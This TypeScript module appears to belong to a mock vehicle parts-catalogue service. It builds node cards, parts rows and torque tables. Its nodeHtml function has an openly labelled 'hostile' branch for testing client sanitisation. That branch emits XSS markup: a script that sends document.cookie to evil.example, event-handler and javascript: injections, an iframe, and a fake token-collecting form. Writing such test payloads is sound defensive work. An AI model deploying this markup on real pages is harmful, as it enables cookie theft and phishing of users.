import type { NodeModel, PartRow } from '../data/model'
import { nodeDrawings } from '../images/drawings'
import type { RenderContext } from './context'
import { filterParts, partsForm, type FormValues } from './forms'
import { escapeHtml, table, type JsonObject } from './json'
import { target } from './targets'

// The node card (the diagram) in the real service's shape: `name`, `images` (one entry per
// drawing), `image_index` (which drawing the hotspots belong to), `hotspots` directly on the node
// and `parts` with `qty` as a string. There is no `scheme` object: the real service never sends one.

const TORQUES: [string, string, number][] = [
  ['p_bolt', 'M6', 10],
  ['p_bolt', 'M8', 25],
  ['p_bolt', 'M10', 50],
  ['p_nut', 'M12x1.5', 80],
  ['p_wheel_bolt', 'M14x1.5', 120]
]

export function torqueTable(ctx: RenderContext): JsonObject {
  return table(
    ctx.t('t_torque'),
    [
      ['name', ctx.t('t_name')],
      ['value', ctx.t('t_value')]
    ],
    TORQUES.map(([k, size, nm]) => ({
      name: `${ctx.t(k)} ${size}`,
      value: { value: `${nm} Nm ±10%`, flagNotTranslate: true }
    }))
  )
}

function nodeHtml(ctx: RenderContext, node: NodeModel, kind: 'note' | 'hostile'): string {
  const title = escapeHtml(ctx.nodeTitle(node))
  if (kind === 'hostile') {
    // Deliberately hostile markup: a client must sanitise before showing it.
    return (
      `<h3>${escapeHtml(ctx.t('i_hostile'))}: ${title}</h3>` +
      `<p>${escapeHtml(ctx.t('i_bulletin'))}</p>` +
      `<script>window.__demoXss = true; fetch('https://evil.example/steal?c=' + document.cookie)</script>` +
      `<img src="x" onerror="window.__demoXss = true">` +
      `<a href="javascript:window.__demoXss=true">${escapeHtml(ctx.t('i_more'))}</a>` +
      `<iframe src="https://evil.example/frame"></iframe>` +
      `<form action="https://evil.example/login" method="post"><input name="token"><button>OK</button></form>` +
      `<div onclick="window.__demoXss = true" style="position:fixed;inset:0">&nbsp;</div>`
    )
  }
  const rows = TORQUES.map(
    ([k, size, nm]) => `<tr><td>${escapeHtml(`${ctx.t(k)} ${size}`)}</td><td>${nm} Nm</td></tr>`
  ).join('')
  return (
    `<h3>${escapeHtml(ctx.t('t_install'))}: ${title}</h3><p>${escapeHtml(ctx.t('i_bulletin'))}</p>` +
    `<table><thead><tr><th>${escapeHtml(ctx.t('t_name'))}</th><th>${escapeHtml(ctx.t('t_value'))}</th></tr></thead><tbody>${rows}</tbody></table>` +
    `<p><a href="https://service.example.com/${encodeURIComponent(ctx.vehicle.def.catalog)}/${node.code}">${escapeHtml(ctx.t('i_more'))}</a></p>`
  )
}

/** A parts row: `note` only when there is one and `qty` a string, as real rows have them. */
function partRow(ctx: RenderContext, node: NodeModel, p: PartRow, row: number): JsonObject {
  return {
    hotspotId: p.hotspotId,
    number: p.number,
    name: ctx.partName(p),
    ...(p.note ? { note: p.note } : {}),
    qty: String(p.qty),
    q_partinfo: ctx.ptr(target.part(ctx.v, node.id, row)),
    // unknown extras, as the real service sends
    ...(p.side ? { side: p.side } : {}),
    ...(p.from ? { prodFrom: p.from } : {}),
    ...(p.to ? { prodTo: p.to } : {}),
    ...(row % 5 === 0 ? { weight: p.weightKg } : {})
  }
}

/** `node.note`: a short remark where the real service has one (date-split or optional nodes). */
function nodeNote(ctx: RenderContext, node: NodeModel): string | undefined {
  if (node.parts.some((p) => p.from)) return ctx.t('i_prod_dep')
  if (node.optional) return ctx.t('f_optional')
  return undefined
}

export function nodeSection(ctx: RenderContext, node: NodeModel, form: FormValues): JsonObject {
  const v = ctx.vehicle
  const drawings = nodeDrawings(ctx.model, v, node)
  const named = drawings[node.imageIndex]!
  const rows = node.extras.form ? filterParts(node, form) : node.parts.map((_, i) => i)
  const subId = node.id.split('.').slice(0, 2).join('.')
  const groupId = node.id.split('.')[0]!
  const x = node.extras
  const name = ctx.nodeTitle(node)
  const note = nodeNote(ctx, node)
  const engines = node.engines?.join(', ')
  return {
    node: {
      name,
      // `title` is rare on real nodes; here only engine-specific ones carry it
      ...(engines ? { title: `${name} (${engines})` } : {}),
      code: node.code,
      ...(note ? { note } : {}),
      qGroup: ctx.ptr(target.sub(v.index, subId)),
      images: drawings.map((d, sheet) => ({
        qImage: ctx.ptr(target.scheme(v.index, node.id, sheet)),
        width: d.width,
        height: d.height
      })),
      // single-drawing nodes leave it off (the client then uses drawing 0), as real answers do
      ...(node.drawings > 1 ? { image_index: node.imageIndex } : {}),
      hotspots: named.hotspots.map((h) => ({
        hotspotId: h.hotspotId,
        top: h.top,
        left: h.left,
        width: h.width,
        height: h.height
      })),
      parts: rows.map((i) => partRow(ctx, node, node.parts[i]!, i)),
      ...(node.optional ? { optional: true } : {})
    },
    ...(x.form ? { forms: [partsForm(ctx, node, form)] } : {}),
    ...(x.tables ? { tables: [torqueTable(ctx)] } : {}),
    ...(x.images ? { images: [ctx.photo(`n${node.id}a`), ctx.photo(`n${node.id}b`, 480, 360)] } : {}),
    ...(x.html ? { html: nodeHtml(ctx, node, x.html) } : {}),
    ...(x.modal
      ? {
          modal: { title: ctx.t('t_install'), tables: [torqueTable(ctx)], images: [ctx.photo(`m${node.id}`, 480, 360)] }
        }
      : {}),
    ...(x.info ? { info: { type: x.info, text: ctx.t(x.info === 'warning' ? 'i_prod_dep' : 'i_hotspot') } } : {}),
    bread_crumb: ctx.crumbs({ group: groupId, sub: subId, node: node.id })
  }
}
